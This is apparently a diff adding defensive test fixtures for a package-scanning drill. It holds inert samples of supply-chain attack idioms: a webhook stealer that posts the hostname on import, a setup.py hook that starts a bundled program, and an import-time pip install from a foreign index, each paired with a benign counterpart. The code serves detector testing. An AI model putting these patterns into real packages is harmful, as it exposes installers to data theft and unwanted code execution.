@@ -1,0 +1,68 @@
+"""Packages that send, start and install what their user did not ask for: idioms of published stealers, inert.
+
+Sources: reports on webhook stealers and droppers (Checkmarx, Phylum, 2023), crytic-compilers (Sonatype, 2024), silent updaters
+from foreign indexes (Datadog Security Labs, 2025). Hosts are reserved names (RFC 2606); the program is a text.
+"""
+
+from __future__ import annotations
+
+from pratique.drill.attacks.packages import HONEST, module, package_attack
+
+WEBHOOK = """\
+import platform
+
+import requests
+
+ADDRESS = "https://discord.com/api/webhooks/000000000000000000/pratique-drill"
+requests.post(ADDRESS, json={"content": platform.node()}, timeout=9)
+"""
+NOTIFIER = """\
+import os
+
+import requests
+
+
+def notify(text):
+    requests.post(os.environ["DRILL_HOOK"], json={"content": text}, timeout=9)
+"""
+DROPPER = """\
+import os
+import subprocess
+
+from setuptools import setup
+from setuptools.command.install import install
+
+
+class Install(install):
+    def run(self):
+        install.run(self)
+        here = os.path.dirname(os.path.abspath(__file__))
+        subprocess.Popen([os.path.join(here, "drill", "update.bin")])
+
+
+setup(name="drill", version="1.0", packages=["drill"], cmdclass={"install": Install})
+"""
+UPDATER = """\
+import subprocess
+import sys
+
+INDEX = "https://wheels.example.net/simple"
+subprocess.Popen([sys.executable, "-m", "pip", "install", "-q", "--index-url", INDEX, "drill-core"])
+"""
+EXTRAS = """\
+import subprocess
+import sys
+
+
+def install_extra(name):
+    subprocess.check_call([sys.executable, "-m", "pip", "install", f"drill[{name}]"])
+"""
+CARRIED = {"drill/update.bin": "pratique-drill\n"}
+ATTACKS = (
+    package_attack("webhook", "importing it tells a chat of nobody (webhook stealers)", module(WEBHOOK), module(NOTIFIER),
+                   "package/anonymous-drop", "drill/__init__.py:6"),
+    package_attack("dropper", "setup.py starts a program that the package carries (as crytic-compilers)",
+                   {**HONEST, "setup.py": DROPPER, **CARRIED}, HONEST, "package/bundled-program", "setup.py:12"),
+    package_attack("updater", "importing it installs from another index", module(UPDATER), module(EXTRAS),
+                   "package/self-installation", "drill/__init__.py:5"),
+)  # fmt: skip
